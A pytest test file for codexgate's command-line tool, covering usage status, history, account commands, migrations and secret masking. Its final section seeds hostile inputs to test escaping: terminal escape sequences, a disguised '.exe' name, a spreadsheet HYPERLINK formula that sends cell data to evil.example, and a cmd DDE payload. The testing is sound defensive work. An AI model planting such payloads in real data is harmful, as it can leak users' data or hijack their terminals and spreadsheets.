"""The offline commands against a real database file and against a running gateway's API."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import pty
import re
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp.test_utils import TestServer

from codexgate.cli import main as cli
from codexgate.cli.common import CommandError
from codexgate.cli.history import parse_when
from codexgate.cli.output import colour_enabled, csv_cell
from codexgate.core.models import Identity
from codexgate.core.sanitize import has_unsafe
from codexgate.core.text import duration
from codexgate.keys import CONFIG, STORE
from codexgate.storage import open_storage
from codexgate.storage.interface import Storage
from tests.helpers.admin_client import ADMIN, JWTS, OPAQUE
from tests.helpers.builders import request_record, seat_identity, usage_snapshot
from tests.helpers.gateway import app_of
from tests.helpers.processes import free_port, terminal_output

HOUR = 3600.0
RED = "\x1b[31m"
AMBER = "\x1b[33m"
GREEN = "\x1b[32m"


async def populate(store: Storage, now: float) -> None:
    """work (seat_a): three rows, now at 85% (red); bob (seat_b): 7d only, half an hour old;
    home (personal) and a second "home" (an opaque token) that never sent traffic."""
    seat_a, seat_b = seat_identity("seat_a"), seat_identity("seat_b")
    await store.record(
        [
            usage_snapshot(seat_a, now - 3 * HOUR, 20.0, 10.0),
            usage_snapshot(seat_a, now - 2 * HOUR, 55.0, 12.0),
            usage_snapshot(seat_a, now - 60, 85.0, 15.0),
            usage_snapshot(seat_b, now - 0.5 * HOUR, None, 40.0),
            usage_snapshot(seat_identity("personal"), now - 120, 5.0, 1.0),
            request_record(now - 60, who=seat_a),
            request_record(now - 30, who=seat_b, status=429),
        ]
    )
    accounts = {a.account_key: a.id for a in await store.accounts()}
    await store.update_account(accounts[seat_a.account_key], display_name="work")
    await store.update_account(accounts[seat_identity("personal").account_key], display_name="home")
    opaque = Identity(account_key="sha256:" + "ab" * 32, token_fingerprint="ab" * 32)
    await store.create_account(opaque, "Home", now)


async def _make_db(path: Path) -> None:
    store = await open_storage(path)
    try:
        await populate(store, time.time())
    finally:
        await store.close()


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A populated database file; the working folder is tmp_path and no CODEXGATE_ is set."""
    for name in list(os.environ):
        if name.startswith("CODEXGATE_") or name == "NO_COLOR":
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "usage.db"
    asyncio.run(_make_db(path))
    return path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """cli.main in this process: (exit code, stdout, stderr)."""
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def process(
    *args: str, cwd: Path, stdin: str = "", env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """`python -m codexgate ...` as a real process."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("CODEXGATE_")}
    base.pop("NO_COLOR", None)
    return subprocess.run(
        [sys.executable, "-m", "codexgate", *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=cwd,
        env={**base, **(env or {})},
        check=False,
    )


def table_rows(out: str) -> list[list[str]]:
    """A table's lines split on runs of two or more spaces, header first."""
    return [re.split(r"\s{2,}", line.strip()) for line in out.splitlines() if line.strip()]


# -- status -----------------------------------------------------------------------------------


def test_status_table_shows_every_window_and_unknowns(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "status", "--db", str(db))
    assert (code, err) == (0, "")
    assert "\x1b[" not in out  # not a terminal: no colour
    header, *rows = table_rows(out)
    assert header == [
        "id",
        "account",
        "limit",
        "window",
        "used",
        "resets in",
        "data age",
        "source",
        "stale",
    ]
    by_window = {(r[1], r[3]): r for r in rows}
    work_5h = by_window[("work", "5h")]
    assert work_5h[2] == "codex"
    assert work_5h[4] == "85%"
    assert work_5h[5].endswith(("d", "h"))
    assert work_5h[5][0].isdigit()
    assert work_5h[6] == "1m"
    assert work_5h[7:] == ["headers", "no"]
    assert by_window[("work", "7d")][4] == "15%"
    # bob never reported a 5h window: it is not a row and not 0%; his data is stale.
    assert ("bob@example.com", "5h") not in by_window
    bob = by_window[("bob@example.com", "7d")]
    assert bob[4] == "40%"
    assert bob[6] == "30m"
    assert bob[8] == "yes"
    # The account without any data says unknown, never 0.
    [empty] = [r for r in rows if r[1] == "Home"]
    assert empty[2:8] == ["unknown"] * 6
    assert "0%" not in " ".join(" ".join(r) for r in rows if r[1] in ("Home",))


def test_status_json_is_the_apis_accounts_list(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "status", "--db", str(db), "--json")
    assert code == 0
    accounts = orjson.loads(out)["accounts"]
    assert [a["display_name"] for a in accounts] == ["work", None, "home", "Home"]
    work = accounts[0]
    assert work["email"] == "alice@example.com"
    assert work["limits"][0]["windows"]["5h"]["used_percent"] == 85.0
    assert accounts[1]["limits"][0]["windows"]["5h"] is None
    assert accounts[3]["limits"] == []
    assert JWTS["seat_a"] not in out


def test_status_with_nothing_recorded(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "empty.db"
    assert run(capsys, "migrate", "--db", str(path))[0] == 0
    code, out, _ = run(capsys, "status", "--db", str(path))
    assert code == 0
    assert out.startswith("no accounts yet")
    code, out, _ = run(capsys, "status", "--db", str(path), "--json")
    assert orjson.loads(out) == {"accounts": []}


def test_a_missing_or_broken_database_exits_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "status", "--db", str(tmp_path / "nope.db"))
    assert (code, out) == (1, "")
    assert err.startswith("codexgate: no database at ")
    assert len(err.splitlines()) == 1
    assert not (tmp_path / "nope.db").exists()
    broken = tmp_path / "broken.db"
    broken.write_bytes(b"this is not a database" * 100)
    code, _, err = run(capsys, "accounts", "list", "--db", str(broken))
    assert code == 1
    assert err.startswith("codexgate: ")
    assert len(err.splitlines()) == 1


def _on_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> str:
    """Run codexgate with stdout on a pseudo-terminal and return what it wrote there."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("CODEXGATE_")}
    base.pop("NO_COLOR", None)
    command = [sys.executable, "-m", "codexgate", *args]
    return terminal_output(command, stream="stdout", env={**base, **env}, cwd=cwd)


def test_colour_on_a_terminal_by_the_thresholds_unless_no_color(db: Path) -> None:
    args = ["status", "--db", str(db), "--warn-percent", "30", "--critical-percent", "80"]
    coloured = _on_a_terminal(args, db.parent, {})
    assert f"{RED}85%" in coloured  # >= critical
    assert f"{AMBER}40%" in coloured  # >= warn
    assert f"{GREEN}15%" in coloured  # below warn
    plain = _on_a_terminal(args, db.parent, {"NO_COLOR": "1"})
    assert "\x1b[" not in plain
    assert "85%" in plain
    # The thresholds come from the settings: with a higher warn level 40% is green.
    higher = _on_a_terminal([*args[:4], "45", *args[5:]], db.parent, {})
    assert f"{GREEN}40%" in higher


def test_colour_rules() -> None:
    main, child = pty.openpty()
    try:
        with open(child, "w", closefd=False) as terminal:
            assert colour_enabled(terminal, {}) is True
            assert colour_enabled(terminal, {"NO_COLOR": "1"}) is False
            assert colour_enabled(terminal, {"NO_COLOR": ""}) is True  # empty means unset
        assert colour_enabled(io.StringIO(), {}) is False
    finally:
        os.close(main)
        os.close(child)


def test_durations() -> None:
    # The dashboard's rule (text.duration): the two largest units, a zero second one left out.
    spans = (5, 75, 120, 3 * HOUR + 300, 3 * HOUR, 2 * 86400 + 4 * HOUR, 2 * 86400, -5)
    assert [duration(s) for s in spans] == [
        "5s",
        "1m 15s",
        "2m",
        "3h 5m",
        "3h",
        "2d 4h",
        "2d",
        "0s",
    ]


# -- history ----------------------------------------------------------------------------------


def test_history_table_by_name_email_or_id(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "history", "WORK", "--db", str(db))
    assert code == 0
    header, *rows = table_rows(out)
    assert header == ["time", "limit", "window", "used", "resets at", "source"]
    assert [(r[2], r[3]) for r in rows] == [
        ("5h", "20%"),
        ("7d", "10%"),
        ("5h", "55%"),
        ("7d", "12%"),
        ("5h", "85%"),
        ("7d", "15%"),
    ]
    assert rows[0][4] == "2030-01-01T00:00:00Z"
    assert all(r[0].endswith("Z") and r[1] == "codex" and r[5] == "headers" for r in rows)
    assert run(capsys, "history", "alice@example.com", "--db", str(db))[1] == out
    assert run(capsys, "history", "1", "--db", str(db))[1] == out


def test_history_csv_window_and_range(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(
        capsys, "history", "work", "--db", str(db), "--csv", "--window", "5h", "--since", "150m"
    )
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["time", "limit", "window", "used_percent", "resets_at", "source"]
    assert [(r[2], r[3]) for r in rows[1:]] == [("5h", "55"), ("5h", "85")]
    now = time.time()
    until = str(now - 1.5 * HOUR)
    code, out, _ = run(capsys, "history", "work", "--db", str(db), "--csv", "--until", until)
    assert [r[3] for r in list(csv.reader(io.StringIO(out)))[1:]] == ["20", "10", "55", "12"]
    # bob's rows never reported a 5h window: an empty range, not zeros.
    code, out, _ = run(capsys, "history", "bob@example.com", "--db", str(db), "--window", "5h")
    assert (code, out) == (0, "no history in this range\n")
    code, out, _ = run(capsys, "history", "bob@example.com", "--db", str(db), "--json")
    [item] = orjson.loads(out)["items"]
    assert item["windows"]["5h"] is None
    assert item["windows"]["7d"]["used_percent"] == 40.0


def test_history_errors(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "history", "home", "--db", str(db))
    assert (code, out) == (2, "")
    assert err.startswith("codexgate: 'home' matches accounts 3 (home), 4 (Home); give the id")
    code, _, err = run(capsys, "history", "nobody", "--db", str(db))
    assert code == 1
    assert err == "codexgate: no account matches 'nobody' (an id, display name or email)\n"
    code, _, err = run(capsys, "history", "work", "--db", str(db), "--since", "yesterday")
    assert code == 2
    assert "--since must be unix seconds, an ISO-8601 time or a span" in err
    code, _, err = run(capsys, "history", "work", "--db", str(db), "--since", "1h", "--until", "2h")
    assert (code, err) == (2, "codexgate: --until must not be before --since\n")


def test_when_forms() -> None:
    now = 1_800_000_000.0
    assert parse_when("1700000000", now, "--since") == 1_700_000_000
    assert parse_when("1700000000.5", now, "--since") == 1_700_000_000.5
    assert parse_when("24h", now, "--since") == now - 86400
    assert parse_when("7d", now, "--since") == now - 7 * 86400
    assert parse_when("30m", now, "--since") == now - 1800
    assert parse_when("2026-03-01T12:00:00Z", now, "--since") == 1772366400
    assert parse_when("2026-03-01T13:00:00+01:00", now, "--since") == 1772366400
    assert parse_when("2026-03-01T12:00:00", now, "--since") == 1772366400  # UTC when unsaid
    assert parse_when("2026-03-01", now, "--since") == 1772323200
    for bad in ("", "nan", "inf", "soon", "24 hours", "-5h"):
        with pytest.raises(CommandError) as caught:
            parse_when(bad, now, "--until")
        assert caught.value.exit_code == 2


# -- accounts -----------------------------------------------------------------------------------


def test_accounts_list(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "accounts", "list", "--db", str(db))
    assert code == 0
    header, *rows = table_rows(out)
    assert header == ["id", "name", "email", "plan", "first seen", "last seen", "token"]
    assert [r[:4] for r in rows[:3]] == [
        ["1", "work", "alice@example.com", "team"],
        ["2", "-", "bob@example.com", "team"],
        ["3", "home", "carol@example.com", "plus"],
    ]
    assert rows[3][1:4] == ["Home", "-", "-"]
    code, out, _ = run(capsys, "accounts", "list", "--db", str(db), "--json")
    assert [a["id"] for a in orjson.loads(out)["accounts"]] == [1, 2, 3, 4]


def test_accounts_add_rename_and_rm(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(
        capsys, "accounts", "add", "--db", str(db), "--token", OPAQUE, "--name", "ci"
    )
    assert (code, out) == (0, "added account 5 (ci)\n")
    code, out, _ = run(capsys, "accounts", "add", "--db", str(db), "--token", f"Bearer {OPAQUE}")
    assert (code, out) == (0, "updated existing account 5 (ci)\n")  # same seat, pasted header
    code, out, _ = run(capsys, "accounts", "rename", "ci", "builds", "--db", str(db))
    assert (code, out) == (0, "renamed account 5 to builds\n")
    code, out, _ = run(capsys, "accounts", "rename", "5", "--clear", "--db", str(db))
    assert (code, out) == (0, "cleared the name of account 5 (Account 5)\n")
    code, _, err = run(capsys, "accounts", "rename", "5", "--db", str(db))
    assert (code, err) == (2, "codexgate: give either NAME or --clear\n")
    code, out, _ = run(capsys, "accounts", "rm", "5", "--yes", "--db", str(db))
    assert (code, out) == (0, "deleted account 5 (Account 5)\n")
    code, out, _ = run(capsys, "accounts", "list", "--db", str(db), "--json")
    assert [a["id"] for a in orjson.loads(out)["accounts"]] == [1, 2, 3, 4]
    code, _, err = run(capsys, "accounts", "rm", "5", "--yes", "--db", str(db))
    assert code == 1
    assert "no account matches '5'" in err


def test_rm_without_yes_asks_only_a_terminal(db: Path) -> None:
    result = process("accounts", "rm", "work", "--db", str(db), cwd=db.parent, stdin="y\n")
    assert result.returncode == 2
    assert result.stderr == (
        "codexgate: not deleting account 1 (work) without --yes (no terminal to ask)\n"
    )
    assert result.stdout == ""


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
def test_rm_asks_on_a_terminal(db: Path, answer: str, code: int) -> None:
    main, child = pty.openpty()
    os.write(main, f"{answer}\n".encode())
    try:
        result = subprocess.run(
            [sys.executable, "-m", "codexgate", "accounts", "rm", "work", "--db", str(db)],
            stdin=child,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=db.parent,
            check=False,
        )
    finally:
        os.close(main)
        os.close(child)
    assert result.returncode == code
    assert "delete account 1 (work) with its history and requests? [y/N] " in result.stderr
    if code == 0:
        assert result.stdout == "deleted account 1 (work)\n"
    else:
        assert result.stderr.endswith("codexgate: nothing deleted\n")
    left = asyncio.run(_account_ids(db))
    assert (1 in left) == (code == 1)


async def _account_ids(path: Path) -> list[int]:
    store = await open_storage(path)
    try:
        return [a.id for a in await store.accounts()]
    finally:
        await store.close()


def test_add_reads_the_token_from_stdin_and_never_prints_it(db: Path) -> None:
    token = JWTS["seat_b"]
    result = process(
        "accounts",
        "add",
        "--db",
        str(db),
        "--token",
        "-",
        "--name",
        "B",
        cwd=db.parent,
        stdin=token,
    )
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == "updated existing account 2 (B)\n"  # seat_b had traffic already
    result = process("accounts", "add", "--db", str(db), "--token", "-", cwd=db.parent, stdin="")
    assert (result.returncode, result.stderr) == (2, "codexgate: no token on stdin\n")
    # The admin token is not a seat's token.
    result = process(
        "accounts", "add", "--db", str(db), "--token", ADMIN, cwd=db.parent,
        env={"CODEXGATE_ADMIN_TOKEN": ADMIN},
    )  # fmt: skip
    assert result.returncode == 2
    assert "that is the admin token" in result.stderr
    assert ADMIN not in result.stderr + result.stdout


def test_add_creates_the_database_when_needed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "new" / "codexgate.db"
    code, out, _ = run(capsys, "accounts", "add", "--db", str(path), "--token", JWTS["personal"])
    assert (code, out) == (0, "added account 1 (carol@example.com)\n")
    code, _, err = run(capsys, "accounts", "add", "--db", str(path), "--token", "   ")
    assert (code, err) == (2, "codexgate: token must not be empty\n")
    code, _, err = run(capsys, "accounts", "add", "--db", str(path), "--token", "x", "--name", "")
    assert (code, err) == (2, "codexgate: the name must be 1 to 100 characters\n")


# -- migrate and check-config ---------------------------------------------------------------------


def test_migrate_and_check(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "data" / "m.db"
    code, out, err = run(capsys, "migrate", "--check", "--db", str(path))
    assert (code, out) == (1, "")
    assert err == (
        f"codexgate: no database file at {path}: `codexgate migrate` (or the first start) "
        "creates it; check --db\n"
    )
    assert not path.exists()  # --check changes nothing
    code, out, _ = run(capsys, "migrate", "--db", str(path))
    assert code == 0
    version = int(out.split("schema version ")[1].split()[0])
    assert version >= 1
    assert f"(applied {version} migration" in out
    assert run(capsys, "migrate", "--db", str(path))[1].endswith("(up to date)\n")
    assert run(capsys, "migrate", "--check", "--db", str(path))[0] == 0
    with sqlite3.connect(path) as raw:
        raw.execute(f"PRAGMA user_version = {version - 1}")
    code, out, _ = run(capsys, "migrate", "--check", "--db", str(path))
    assert code == 1
    assert f"schema version {version - 1}, 1 migration pending (latest {version})" in out
    with sqlite3.connect(path) as raw:
        raw.execute(f"PRAGMA user_version = {version + 5}")
    code, _, err = run(capsys, "migrate", "--check", "--db", str(path))
    assert code == 1
    assert "is newer than this codexgate" in err
    code, _, err = run(capsys, "migrate", "--db", str(path))
    assert code == 1
    assert "newer than this codexgate supports" in err


def test_check_config_shows_values_sources_and_masks_secrets(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CODEXGATE_LOG_LEVEL", "debug")
    (tmp_path / "metrics_token").write_text("metrics-token-sekrit-1\n")
    monkeypatch.setenv("CODEXGATE_METRICS_TOKEN_FILE", str(tmp_path / "metrics_token"))
    (tmp_path / "codexgate.toml").write_text(
        'port = 9001\nadmin_token = "admin-token-sekrit-123"\n'
        'upstream_proxy = "http://user:pw-sekrit@proxy.internal:3128"\n'
        "[alerts]\nthresholds = [90, 50]\n"
        '[[alerts.webhooks]]\nurl = "https://hooks.slack.com/services/T/B/sekrit"\n'
        'format = "slack"\nname = "team"\n'
    )
    code, out, err = run(capsys, "check-config", "--host", "::1")
    assert (code, err) == (0, "")
    assert "sekrit" not in out
    rows = {r[0]: r[1:] for r in table_rows(out)[1:]}
    assert rows["config"] == ["codexgate.toml", "default"]
    assert rows["host"] == ["::1", "flag"]
    assert rows["log_level"] == ["DEBUG", "env"]
    assert rows["port"] == ["9001", "file"]
    assert rows["idle_timeout"] == ["300", "default"]
    assert rows["capture"] == ["on", "default"]
    assert rows["admin_token"] == ["***set***", "file"]
    assert rows["metrics_token"] == ["***set***", "env_file"]
    assert rows["upstream_proxy"] == ["http://***@proxy.internal:3128", "file"]
    assert rows["alerts.thresholds"] == ["50, 90", "file"]
    assert rows["alerts.webhooks[0]"] == ["https://hooks.slack.com/… (slack, team)", "file"]
    assert rows["upstream_proxy"][0].count("***") == 1


def test_check_config_refuses_a_bad_file_with_one_line(tmp_path: Path) -> None:
    (tmp_path / "codexgate.toml").write_text("port = 70000\n")
    result = process("check-config", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr == (
        "codexgate: invalid port in codexgate.toml: must be 1-65535, got 70000\n"
    )
    # serve refuses it the same way, before listening.
    result = process(cwd=tmp_path)
    assert (result.returncode, result.stderr) == (
        2,
        "codexgate: invalid port in codexgate.toml: must be 1-65535, got 70000\n",
    )
    result = process("status", "--config", "missing.toml", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.startswith("codexgate: invalid --config (CODEXGATE_CONFIG): ")


def test_commands_read_the_database_named_in_the_file(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (db.parent / "codexgate.toml").write_text(f'db = "{db.name}"\n')
    code, out, _ = run(capsys, "accounts", "list", "--json")
    assert code == 0
    assert len(orjson.loads(out)["accounts"]) == 4


def test_unknown_usage_is_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        cli.main(["history"])
    assert caught.value.code == 2
    with pytest.raises(SystemExit) as caught:
        cli.main(["accounts", "add", "--name", "x"])  # --token is required
    assert caught.value.code == 2
    capsys.readouterr()


# -- through a running gateway's API ------------------------------------------------------------


def _strip_moving(value: Any) -> Any:
    """value without the fields that move with the clock: ages, countdowns and forecasts."""
    if isinstance(value, dict):
        return {
            k: _strip_moving(v)
            for k, v in value.items()
            if k not in ("age_seconds", "reset_in_seconds", "forecast")
        }
    if isinstance(value, list):
        return [_strip_moving(v) for v in value]
    return value


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No CODEXGATE_ variable or NO_COLOR, and tmp_path as the working folder."""
    for name in list(os.environ):
        if name.startswith("CODEXGATE_") or name == "NO_COLOR":
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)


async def in_thread(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """cli.main beside the running loop (it runs its own)."""
    code = await asyncio.to_thread(cli.main, list(args))
    out, err = capsys.readouterr()
    return code, out, err


async def test_url_gives_the_same_answers_as_the_file(
    server: TestServer,
    capsys: pytest.CaptureFixture[str],
    clean_env: None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    store = app_of(server)[STORE]
    await populate(store, time.time())
    url = f"http://127.0.0.1:{server.port}"
    db = str(app_of(server)[CONFIG].db)
    for args in (
        ("status", "--json"),
        ("accounts", "list", "--json"),
        ("history", "work", "--json", "--since", "4h"),
    ):
        code, remote, err = await in_thread(capsys, *args, "--url", url, "--token", ADMIN)
        assert (code, err) == (0, "")
        code, local, _ = await in_thread(capsys, *args, "--db", db)
        assert code == 0
        assert _strip_moving(orjson.loads(remote)) == _strip_moving(orjson.loads(local))
    code, remote, _ = await in_thread(
        capsys, "history", "work", "--csv", "--window", "7d", "--url", url, "--token", ADMIN
    )
    assert [r[3] for r in csv.reader(io.StringIO(remote))][1:] == ["10", "12", "15"]
    # The token may come from the admin_token setting instead (here its variable).
    monkeypatch.setenv("CODEXGATE_ADMIN_TOKEN", ADMIN)
    monkeypatch.setenv("CODEXGATE_URL", url)
    code, out, _ = await in_thread(capsys, "status")
    assert code == 0
    assert "85%" in out


async def test_url_manages_accounts(
    server: TestServer, capsys: pytest.CaptureFixture[str], clean_env: None
) -> None:
    remote = ("--url", f"http://127.0.0.1:{server.port}", "--admin-token", ADMIN)
    code, out, err = await in_thread(
        capsys, "accounts", "add", "--token", JWTS["seat_a"], "--name", "work", *remote
    )
    assert (code, out, err) == (0, "added account 1 (work)\n", "")
    remote = ("--url", f"http://127.0.0.1:{server.port}", "--token", ADMIN)
    assert (await in_thread(capsys, "accounts", "rename", "work", "office", *remote))[1] == (
        "renamed account 1 to office\n"
    )
    [account] = await app_of(server)[STORE].accounts()
    assert account.display_name == "office"
    code, _, err = await in_thread(capsys, "accounts", "rm", "office", *remote)
    assert code == 2
    assert "without --yes" in err
    assert (await in_thread(capsys, "accounts", "rm", "office", "--yes", *remote))[0] == 0
    assert await app_of(server)[STORE].accounts() == []


async def test_url_errors(
    server: TestServer, capsys: pytest.CaptureFixture[str], clean_env: None
) -> None:
    url = f"http://127.0.0.1:{server.port}"
    code, out, err = await in_thread(
        capsys, "status", "--url", url, "--token", "wrong-token-0123456789"
    )
    assert (code, out) == (1, "")
    assert err.startswith(f"codexgate: {url} refused the admin token")
    assert "wrong-token" not in err
    code, _, err = await in_thread(capsys, "status", "--url", url)  # no token at all
    assert code == 1
    assert "refused the admin token" in err
    code, _, err = await in_thread(capsys, "history", "nobody", "--url", url, "--token", ADMIN)
    assert code == 1
    assert "no account matches 'nobody'" in err
    closed = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    code, _, err = await in_thread(capsys, "status", "--url", closed, "--token", ADMIN)
    assert code == 1
    assert err.startswith(f"codexgate: cannot reach codexgate at {closed}: ")
    assert len(err.splitlines()) == 1
    code, _, err = await in_thread(capsys, "status", "--url", "ftp://x", "--token", ADMIN)
    assert (code, err) == (
        2,
        "codexgate: --url must be an http:// or https:// URL, got 'ftp://x'\n",
    )


# -- text from traffic on the terminal ------------------------------------------------------------

HOSTILE_EMAIL = "mallory\x1b]0;owned\x07@example.com"  # retitles the terminal
HOSTILE_NAME = "work\x1b[2J\x1b[8m\u202egpj.exe"  # clears the screen, hides text, reverses it
HOSTILE_PLAN = "plus\x9b31m\x7f"  # a C1 control sequence introducer
FORMULA_LIMIT = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _poison(db: Path) -> None:
    """Give account 1 the text an older codexgate could have stored from a hostile client."""
    with sqlite3.connect(db) as connection:
        connection.execute(
            "UPDATE accounts SET email = ?, display_name = ?, plan_type = ? WHERE id = 1",
            (HOSTILE_EMAIL, HOSTILE_NAME, HOSTILE_PLAN),
        )
        connection.execute(
            "UPDATE usage_snapshots SET limit_id = ? WHERE account_id = 1", (FORMULA_LIMIT,)
        )


def _acting(text: str) -> list[str]:
    """The characters of text that a terminal would act on (a newline ends a line, as meant)."""
    return [c for c in text if c != "\n" and has_unsafe(c)]


def test_outside_text_is_escaped_in_every_table_and_message(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _poison(db)
    for args in (("status",), ("accounts", "list"), ("history", "1")):
        code, out, err = run(capsys, *args, "--db", str(db))
        assert code == 0, err
        assert _acting(out) == [], args
    _, out, _ = run(capsys, "accounts", "list", "--db", str(db))
    assert "mallory\\x1b]0;owned\\x07@example.com" in out
    assert "work\\x1b[2J\\x1b[8m\\u202egpj.exe" in out
    assert "plus\\x9b31m\\x7f" in out
    code, out, _ = run(capsys, "accounts", "rm", "1", "--yes", "--db", str(db))
    assert code == 0
    assert _acting(out) == []
    assert "work\\x1b[2J" in out


def test_json_output_escapes_what_json_leaves_raw(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _poison(db)
    for args in (("status",), ("accounts", "list")):
        code, out, _ = run(capsys, *args, "--db", str(db), "--json")
        assert code == 0
        assert _acting(out) == [], args
        [first, *_] = orjson.loads(out)["accounts"]
        assert (first["email"], first["display_name"]) == (HOSTILE_EMAIL, HOSTILE_NAME)
        assert first["plan_type"] == HOSTILE_PLAN  # the same value, only written escaped
    code, out, _ = run(capsys, "history", "1", "--db", str(db), "--json")
    assert _acting(out) == []
    assert {item["limit_id"] for item in orjson.loads(out)["items"]} == {FORMULA_LIMIT}


def test_history_csv_never_starts_a_formula(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _poison(db)
    code, out, _ = run(capsys, "history", "1", "--db", str(db), "--csv")
    assert code == 0
    _, *rows = list(csv.reader(io.StringIO(out)))
    assert rows
    assert {row[1] for row in rows} == {"'" + FORMULA_LIMIT}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("codex_bengalfox", "codex_bengalfox"),
        ("2026-03-01T12:00:00Z", "2026-03-01T12:00:00Z"),
        ("", ""),
    ],
)
def test_csv_cells(cell: str, shown: str) -> None:
    assert csv_cell(cell) == shown


@pytest.mark.parametrize("name", ["\x1b]0;x\x07", "bob\u202e", "two\nlines", "nul\x00"])
def test_names_with_control_characters_are_refused(
    db: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    code, out, err = run(capsys, "accounts", "rename", "1", name, "--db", str(db))
    assert (code, out) == (2, "")
    assert "must not contain control characters" in err
    assert _acting(err) == []
    code, _, err = run(
        capsys, "accounts", "add", "--db", str(db), "--token", OPAQUE, "--name", name
    )
    assert code == 2
    assert "must not contain control characters" in err
    assert "work" in run(capsys, "accounts", "list", "--db", str(db))[1]  # nothing changed
